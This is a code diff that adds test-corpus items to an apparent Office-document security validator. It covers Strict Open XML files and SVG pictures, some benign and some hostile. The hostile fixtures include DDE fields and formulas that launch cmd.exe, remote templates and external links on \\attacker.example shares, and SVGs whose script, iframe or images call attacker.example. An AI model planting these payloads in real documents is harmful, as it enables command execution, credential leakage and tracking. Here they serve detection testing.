@@ -1355,6 +1355,8 @@ const officeItems: CorpusItem[] = [
   ...objectPictureOfficeItems(),
   ...foldedTargetOfficeItems(),
   ...prefixedOfficeItems(),
+  ...strictOfficeItems(),
+  ...svgContentOfficeItems(),
 ];
 
 /** An Office item, declared as its id's first word says (a PPTX, not evidence, as a DOCX). */
@@ -3555,7 +3557,79 @@ export const ACTIVE_GENUINE: readonly {
         'xl/worksheets/sheet1.xml': `<?xml version="1.0" encoding="UTF-8"?>\n<表:worksheet xmlns:表="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><表:sheetData><表:row r="1"><表:c r="A1"><表:f>SUM(B1:B9)&amp;"|"</表:f><表:v>0</表:v></表:c></表:row></表:sheetData></表:worksheet>`,
       }),
   },
+  {
+    id: 'docx-strict',
+    declared: 'docx',
+    // Round 14: a document saved as Strict Open XML, its namespaces and relationship types Strict's.
+    bytes: () => buildZip(docxEntries().map((e) => ({ ...e, data: asStrict(e.data) }))),
+  },
+  {
+    id: 'xlsx-strict-with-sum',
+    declared: 'xlsx',
+    bytes: () =>
+      buildZip(
+        xlsxEntries().map((e) =>
+          e.name === 'xl/worksheets/sheet1.xml'
+            ? {
+                ...e,
+                data: asStrict(
+                  `<?xml version="1.0" encoding="UTF-8"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f><v>0</v></c></row></sheetData></worksheet>`,
+                ),
+              }
+            : { ...e, data: asStrict(e.data) },
+        ),
+      ),
+  },
+  {
+    id: 'docx-svg-icon',
+    declared: 'docx',
+    // Round 14: an icon from Office's gallery (SVG, its PNG copy beside it): gradients and shapes
+    // referred to inside the picture, a bitmap written in as a data: URL.
+    bytes: () =>
+      documentLinking(
+        `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
+        [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
+        { add: [{ name: 'word/media/image2.svg', data: SVG_ICON }] },
+      ),
+  },
+  {
+    id: 'xlsx-svg-icon',
+    declared: 'xlsx',
+    bytes: () =>
+      workbookPicture(
+        svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'),
+        [rel('rId1', 'image', '../media/image1.png'), rel('rId2', 'image', '../media/image2.svg')],
+        undefined,
+        [{ name: 'xl/media/image2.svg', data: SVG_ICON }],
+      ),
+  },
 ];
+
+/** Transitional namespaces and relationship types as ISO 29500 Strict writes them. */
+function asStrict(data: string | Buffer): string | Buffer {
+  if (typeof data !== 'string') return data;
+  return data
+    .replaceAll(
+      'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
+      'http://purl.oclc.org/ooxml/wordprocessingml/main',
+    )
+    .replaceAll(
+      'http://schemas.openxmlformats.org/spreadsheetml/2006/main',
+      'http://purl.oclc.org/ooxml/spreadsheetml/main',
+    )
+    .replaceAll(
+      'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
+      'http://purl.oclc.org/ooxml/officeDocument/relationships',
+    );
+}
+
+/** An icon as Office's gallery inserts one: shapes, a gradient used by reference, no script, nothing outside. */
+const SVG_ICON =
+  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="96" height="96" overflow="hidden">' +
+  '<defs><linearGradient id="g"><stop offset="0" stop-color="#0078D4"/><stop offset="1" stop-color="#50E6FF"/></linearGradient>' +
+  '<clipPath id="c"><rect x="0" y="0" width="96" height="96"/></clipPath></defs>' +
+  '<g clip-path="url(#c)"><path d="M48 8C26 8 8 26 8 48s18 40 40 40 40-18 40-40S70 8 48 8Z" fill="url(#g)"/>' +
+  '<use xlink:href="#c"/><image width="1" height="1" xlink:href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="/></g></svg>';
 
 /**
  * Link targets computed rather than written: HYPERLINK formulas that build theirs from pieces or
@@ -4505,6 +4579,177 @@ function prefixedOfficeItems(): CorpusItem[] {
           'xl/sharedStrings.xml': `${XML_DECLARATION}<表:sst xmlns:表="${S}" count="1" uniqueCount="1"><表:si><表:t>ms-msdt:/id PCWDiagnostic /skip force</表:t></表:si></表:sst>`,
         }),
       'OOXML_EXTERNAL',
+    ),
+  ];
+}
+
+/**
+ * ISO 29500 Strict (round 14): Word and Excel open a Strict file, whose markup's namespaces
+ * (`http://purl.oclc.org/ooxml/…`) and relationship types differ from the transitional ones.
+ * The element searches take any prefix and no namespace, and relationship types are matched by
+ * their last segment, so each of these was refused already: pinned here.
+ */
+function strictOfficeItems(): CorpusItem[] {
+  const XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n';
+  const W = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
+  const S = 'http://purl.oclc.org/ooxml/spreadsheetml/main';
+  const R = 'http://purl.oclc.org/ooxml/officeDocument/relationships';
+  return [
+    item(
+      'docx-strict-ddeauto-field',
+      'DDE',
+      () =>
+        office('docx', {
+          '_rels/.rels': rels(rel('rId1', `${R}/officeDocument`, 'word/document.xml')),
+          'word/document.xml': `${XML_DECLARATION}<w:document xmlns:w="${W}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'docx-strict-remote-template-share',
+      'OOXML external',
+      () =>
+        office('docx', {
+          'word/settings.xml': `${XML_DECLARATION}<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:attachedTemplate r:id="rId1"/></w:settings>`,
+          'word/_rels/settings.xml.rels': rels(
+            rel('rId1', `${R}/attachedTemplate`, '\\\\attacker.example\\s\\t.dotm', true),
+          ),
+        }),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-strict-dde-formula',
+      'DDE',
+      () =>
+        office('xlsx', {
+          'xl/worksheets/sheet1.xml': `${XML_DECLARATION}<worksheet xmlns="${S}"><sheetData><row r="1"><c r="A1"><f>cmd|' /c calc'!A0</f></c></row></sheetData></worksheet>`,
+        }),
+      'OOXML_DDE',
+    ),
+    item(
+      'xlsx-strict-external-workbook-share',
+      'OOXML external',
+      () =>
+        office(
+          'xlsx',
+          {
+            'xl/_rels/workbook.xml.rels': rels(
+              rel('rId1', `${R}/worksheet`, 'worksheets/sheet1.xml'),
+              rel('rId3', `${R}/externalLink`, 'externalLinks/externalLink1.xml'),
+            ),
+          },
+          [
+            {
+              name: 'xl/externalLinks/externalLink1.xml',
+              data: `${XML_DECLARATION}<externalLink xmlns="${S}" xmlns:r="${R}"><externalBook r:id="rId1"/></externalLink>`,
+            },
+            {
+              name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
+              data: rels(rel('rId1', `${R}/externalLinkPath`, '\\\\attacker.example\\s\\b.xlsx', true)),
+            },
+          ],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-strict-macro-sheet-by-relationship',
+      'Macros',
+      () =>
+        office(
+          'xlsx',
+          {
+            'xl/_rels/workbook.xml.rels': rels(
+              rel('rId1', `${R}/worksheet`, 'worksheets/sheet1.xml'),
+              rel('rId2', `${R}/xlMacrosheet`, 'worksheets/sheet2.xml'),
+            ),
+          },
+          [{ name: 'xl/worksheets/sheet2.xml', data: `${XML_DECLARATION}<worksheet xmlns="${S}"/>` }],
+        ),
+      'MACROS',
+    ),
+  ];
+}
+
+/**
+ * SVG pictures that load or run something (round 14, ../../../shared/validation/ooxml/svg.ts):
+ * the SVG part of an `<asvg:svgBlip>` was read by no check, and each of these was VALID. Office
+ * draws an SVG with a renderer of its own, but the picture is saved out and opened in a browser,
+ * and other readers draw it with one.
+ */
+function svgContentOfficeItems(): CorpusItem[] {
+  const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
+  const withSvg = (inside: string) =>
+    documentLinking(
+      `<w:p>${inlinePicture(svgPicture('r:embed="rId7"'))}</w:p>`,
+      [rel('rId7', 'image', 'media/image2.svg'), rel('rId8', 'image', 'media/image1.png')],
+      { add: [{ name: 'word/media/image2.svg', data: `<svg ${NS} viewBox="0 0 96 96">${inside}</svg>` }] },
+    );
+  return [
+    item(
+      'docx-svg-script',
+      'OOXML embedded object',
+      () => withSvg('<script>fetch("http://attacker.example/")</script>'),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-svg-foreign-object-iframe',
+      'OOXML embedded object',
+      () =>
+        withSvg(
+          '<foreignObject width="96" height="96"><iframe xmlns="http://www.w3.org/1999/xhtml" src="http://attacker.example/"/></foreignObject>',
+        ),
+      'OOXML_EMBEDDED_OBJECT',
+    ),
+    item(
+      'docx-svg-web-image',
+      'OOXML external',
+      () => withSvg('<image href="http://attacker.example/track.png"/>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-share-image',
+      'OOXML external',
+      () => withSvg('<image xlink:href="\\\\attacker.example\\share\\x.png"/>'),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-css-fill-from-web',
+      'OOXML external',
+      () => withSvg(`<rect style="fill:url('http://attacker.example/f.svg#g')"/>`),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'xlsx-svg-share-image',
+      'OOXML external',
+      () =>
+        workbookPicture(
+          svgPicture('r:embed="rId2"').replace(/rId8/g, 'rId1'),
+          [rel('rId1', 'image', '../media/image1.png'), rel('rId2', 'image', '../media/image2.svg')],
+          undefined,
+          [
+            {
+              name: 'xl/media/image2.svg',
+              data: `<svg ${NS}><image xlink:href="\\\\attacker.example\\s\\x.png"/></svg>`,
+            },
+          ],
+        ),
+      'OOXML_EXTERNAL',
+    ),
+    item(
+      'docx-svg-typed-png-name',
+      'OOXML unreadable',
+      () =>
+        office(
+          'docx',
+          {
+            '[Content_Types].xml': contentTypes(
+              'docx',
+              '<Override PartName="/word/media/image2.png" ContentType="image/svg+xml"/>',
+            ),
+          },
+          [{ name: 'word/media/image2.png', data: `<svg ${NS}><image href="http://attacker.example/t.png"/></svg>` }],
+        ),
+      'OOXML_UNREADABLE',
     ),
   ];
 }
